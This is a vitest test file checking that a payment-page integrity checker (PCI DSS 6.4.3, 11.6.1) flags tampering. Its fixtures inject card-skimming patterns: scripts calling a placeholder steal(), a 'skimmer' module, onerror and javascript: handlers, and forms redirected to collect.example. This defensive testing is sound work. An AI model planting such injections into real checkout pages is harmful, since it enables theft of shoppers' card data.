import { expect, test } from 'vitest'
import inventory from '../../docs/payment-page.json' with { type: 'json' }
import { bootScript } from '../../app/remix-internals/boot.ts'
import { type Agreed, compareScripts, hashOf, type PageSnapshot } from './compare.ts'

const path = '/en-us/checkout/billing'
const origin = 'https://shop.example'
const module = { url: `${origin}/assets/entry-a1.js`, hash: hashOf('the app') }
const library = { url: `${origin}/assets/payment-library-b2.js`, hash: hashOf('the fields') }
const agreed: Agreed = {
  headers: inventory.headers[path],
  inline: [hashOf(bootScript)],
  built: new Map([module, library].map(({ url, hash }) => [new URL(url).pathname, hash])),
}

const boot = `<script nonce="NONCE">${bootScript}</script>`
const html = `<!doctype html><html><head><link rel="stylesheet" href="/assets/shop.css"/>
<script type="application/ld+json" nonce="NONCE">{}</script></head>
<body><a href="https://elsewhere.example">Elsewhere</a><form method="post"><button name="intent" value="save-billing">Go on</button></form>${boot}</body></html>`
const headers = { ...inventory.headers[path], 'content-type': 'text/html; charset=utf-8', date: 'Mon, 23 Nov 2026 10:00:00 GMT' }
const untouched: PageSnapshot = { origin, headers, html, scripts: [module, library] }

const policy = 'content-security-policy'
const without = (name: string) => Object.fromEntries(Object.entries(headers).filter(([each]) => each !== name))
const saying = (name: string, value: string) => ({ headers: { ...headers, [name]: value } })
const withPolicy = (from: string, to: string) => saying(policy, headers[policy].replace(from, to))
const inBody = (more: string) => ({ html: html.replace('</body>', `${more}</body>`) })
const loading = (url: string, text: string) => ({ scripts: [module, library, { url, hash: hashOf(text) }] })

const tampers: [string, Partial<PageSnapshot>][] = [
  ['a script written into the document', inBody('<script nonce="NONCE">steal()</script>')],
  ['one without the nonce', inBody('<script>steal()</script>')],
  ['a byte of our own one is another', { html: html.replace(boot, boot.replace('(', '((')) }],
  ['our own one is gone', { html: html.replace(boot, '') }],
  ['a script of another origin in the document', inBody('<script nonce="NONCE" src="https://tags.example/t.js"></script>')],
  ['a tag manager loaded once the page runs', loading('https://www.googletagmanager.com/gtm.js?id=GTM-1', 'tags()')],
  ['a byte of a module is another', { scripts: [{ ...module, hash: hashOf('the app!') }, library] }],
  ['a byte of the provider’s library is another', { scripts: [module, { ...library, hash: hashOf('the fields!') }] }],
  ['a module nobody built', loading(`${origin}/assets/skimmer-c3.js`, 'steal()')],
  ['a script of ours from outside the build', loading(`${origin}/uploads/photo.js`, 'steal()')],
  [
    'a module fetched ahead from elsewhere',
    { html: html.replace('<head>', '<head><link rel="modulepreload" href="https://cdn.example/a.js"/>') },
  ],
  ['no policy', { headers: without(policy) }],
  ['a policy that lets inline scripts run', withPolicy("'strict-dynamic'", "'strict-dynamic' 'unsafe-inline'")],
  ['a policy that lets others be asked', withPolicy("connect-src 'self'", "connect-src 'self' https://collect.example")],
  ['a policy that lets others be framed', withPolicy('frame-src ', 'frame-src https: ')],
  ['a policy that lets forms go elsewhere', withPolicy("form-action 'self'", 'form-action *')],
  ['no word against being framed', { headers: without('x-frame-options') }],
  ['no word for a safe line', { headers: without('strict-transport-security') }],
  ['payments allowed to everybody', saying('permissions-policy', 'payment=*')],
  ['a document others may keep', saying('cache-control', 'public, max-age=600')],
  ['a header that fetches a script', saying('link', '<https://cdn.example/a.js>; rel=preload; as=script')],
  ['an attribute that runs', inBody('<img src="x" onerror="steal()">')],
  ['an address that runs', inBody('<a href="javascript:steal()">Pay</a>')],
  ['another base for every address', { html: html.replace('<head>', '<head><base href="/assets/">') }],
  ['a frame over the fields', inBody('<iframe src="/overlay"></iframe>')],
  ['a form that goes elsewhere', { html: html.replace('<form method="post">', '<form method="post" action="https://collect.example/">') }],
  ['a button that goes elsewhere', { html: html.replace('<button ', '<button formaction="//collect.example/" ') }],
  ['a page that leads on by itself', { html: html.replace('<head>', '<head><meta http-equiv="refresh" content="0;url=/pay"/>') }],
]

test('a page of the card’s that is as it was agreed to differs in nothing (PCI DSS 6.4.3, 11.6.1)', () => {
  expect(compareScripts(untouched, agreed)).toEqual([])
  const nonced = JSON.stringify(untouched).replaceAll('NONCE', 'b3Jh').replaceAll('VISIT', '0f8fad5b-d9cb-469f-a165-70867728950e')
  expect(compareScripts(JSON.parse(nonced) as PageSnapshot, agreed)).toEqual([])
})

test.each(tampers)('noticed: %s (PCI DSS 6.4.3, 11.6.1)', (_, change) => {
  expect(compareScripts({ ...untouched, ...change }, agreed)).not.toEqual([])
})
